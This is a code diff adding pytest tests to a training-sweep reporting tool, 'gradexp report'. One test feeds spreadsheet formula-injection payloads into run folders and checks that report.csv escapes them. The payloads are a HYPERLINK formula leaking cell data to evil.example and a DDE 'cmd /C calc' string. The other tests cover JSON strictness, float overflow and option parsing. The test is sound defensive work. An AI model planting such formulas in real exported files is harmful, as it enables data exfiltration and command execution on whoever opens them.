@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import errno
 import json
+import math
 import os
 import shutil
 import signal
@@ -363,3 +364,41 @@ def test_a_deep_tree_an_unlistable_folder_and_a_linked_hydra_folder(tmp_path, ca
             entry.unlink() if not entry.is_dir() or entry.is_symlink() else shutil.rmtree(entry)
         deep.rmdir()
         deep = deep.parent
+
+
+# --- found by the eighth session's adversarial test ----------------------------------------------------------------
+
+def test_spreadsheet_formulas_from_a_run_folder_reach_report_csv_as_text(tmp_path, capsys, no_figure):
+    """=HYPERLINK(...) in an override and @SUM(...) in a status were written to report.csv as they were: a
+    spreadsheet would run them. Each gets OWASP's leading quote; plain signed text ('-', '+model.x', -1e-3) stays."""
+    root = tmp_path / "sweep"
+    write_run(root / "0", ['activation==HYPERLINK("http://evil.example/?"&A1,"x")'], norms=geometric(0.5))
+    write_run(root / "1", ["activation=-cmd|' /C calc'!A0"], status="@SUM(1+1)", norms=geometric(0.9))
+    write_run(root / "2", ["activation=-"], norms=geometric(0.9))
+    assert main([str(root), "--format", "csv"]) == 0
+    cells = [cell for row in csv.reader((root / "report.csv").read_text().splitlines()) for cell in row]
+    assert not any(cell[:1] in ("=", "@") or cell.startswith("-cmd") for cell in cells), cells
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells and "'-cmd|' /C calc'!A0" in cells
+    assert "-" in cells
+
+
+def test_json_output_is_strict_json_and_huge_values_fold_without_overflow(tmp_path, capsys, no_figure):
+    """Infinity from a summary was printed as the literal Infinity, which strict JSON parsers refuse; two seeds of
+    losses near float's largest made the fold's fsum overflow (a traceback after report.csv was written)."""
+    root = tmp_path / "sweep"
+    write_run(root / "0", ["seed=0"], norms=geometric(0.5), final={"loss/train": 1e308, "loss/val": math.inf})
+    write_run(root / "1", ["seed=1"], norms=geometric(0.5), final={"loss/train": 1.7e308, "loss/val": math.inf})
+    assert main([str(root)]) == 0  # the table folds the seeds: mean 1.35e308
+    assert "1.35e+308" in capsys.readouterr().out
+    assert main([str(root), "--format", "json"]) == 0
+    rows = json.loads(capsys.readouterr().out, parse_constant=lambda name: pytest.fail(f"{name} in the JSON"))
+    assert [r["loss/val"] for r in rows] == [None, None]
+
+
+@pytest.mark.parametrize("option", ["--sort=--", "--dpi=--", "--out=--"])
+def test_an_option_whose_value_is_a_double_dash_is_one_line(run_root, capsys, option):
+    """argparse reads `--sort=--` as an empty list: a traceback (and --out=-- wrote to PATH)."""
+    assert main([str(run_root), option]) == 2
+    assert error_lines(capsys) == [f"gradexp report: invalid value for {option[:-3]}: '--' (allowed: a value; see "
+                                   "gradexp report --help)"]
+    assert not (run_root / "report.csv").exists()
